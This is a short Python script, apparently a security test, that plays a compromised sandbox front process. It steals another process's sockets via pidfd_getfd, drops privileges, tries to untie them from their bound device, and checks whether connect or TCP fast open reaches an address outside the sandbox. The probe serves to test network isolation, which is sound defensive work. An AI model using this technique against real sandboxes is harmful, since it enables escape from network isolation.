# SPDX-License-Identifier: Apache-2.0
"""What somebody who has taken over the front could do with a socket that it has in a sandbox: FRONT_PID INIT_PID
ADDRESS PORT.

Takes the sockets of the front that belong to another network than ours, gives up all power, and tries to get from one
of them to an address outside the sandbox, which a socket without that tie can reach from there."""

import ctypes
import errno
import os
import select
import socket
import sys

SYS_PIDFD_GETFD = 438
SO_NETNS_COOKIE = 71
CLONE_NEWNET = 0x40000000
WAIT_S = 1

libc = ctypes.CDLL(None, use_errno=True)


def cookie(s):
    return s.getsockopt(socket.SOL_SOCKET, SO_NETNS_COOKIE, 8)


def sockets_of(pid):
    pidfd, own = os.pidfd_open(pid), cookie(socket.socket())
    for name in os.listdir(f"/proc/{pid}/fd"):
        fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, int(name), 0)
        if fd < 0:
            continue  # closed meanwhile
        try:
            s = socket.socket(fileno=fd)
        except OSError:
            os.close(fd)
            continue
        if s.family in (socket.AF_INET, socket.AF_INET6) and cookie(s) != own:
            yield s


def made_inside(pid):
    here, there = os.open("/proc/self/ns/net", os.O_RDONLY), os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
    assert libc.setns(there, CLONE_NEWNET) == 0
    s = socket.socket()
    assert libc.setns(here, CLONE_NEWNET) == 0
    return s


def attempt(what, fn):
    try:
        fn()
        print(f"{what}: connected")
    except OSError:  # also a timeout
        print(f"{what}: refused")


def fast_open(s, to):
    try:
        s.sendto(b"x", socket.MSG_FASTOPEN, to)
    except BlockingIOError:  # under way
        select.select([], [s], [], WAIT_S)
    s.getpeername()


def disconnect(s):
    libc.connect(s.fileno(), bytes(16), 16)  # AF_UNSPEC


def main():
    front, init, to = int(sys.argv[1]), int(sys.argv[2]), (sys.argv[3], int(sys.argv[4]))
    free, found = made_inside(init), list(sockets_of(front))
    free.settimeout(WAIT_S)
    attempt("another socket made there", lambda: free.connect(to))
    disconnect(free)
    attempt("the same by fast open", lambda: fast_open(free, to))
    print("sockets:", len(found))
    print(
        "tied to:",
        " ".join(s.getsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, 16).rstrip(b"\0").decode() for s in found),
    )
    os.setresuid(65534, 65534, 65534)
    s = found[0]
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"")
        print("untie: done")
    except OSError as e:
        print("untie:", errno.errorcode[e.errno])
    disconnect(s)
    s.settimeout(WAIT_S)
    attempt("connect", lambda: s.connect(to))
    disconnect(s)
    attempt("fast open", lambda: fast_open(s, to))


main()
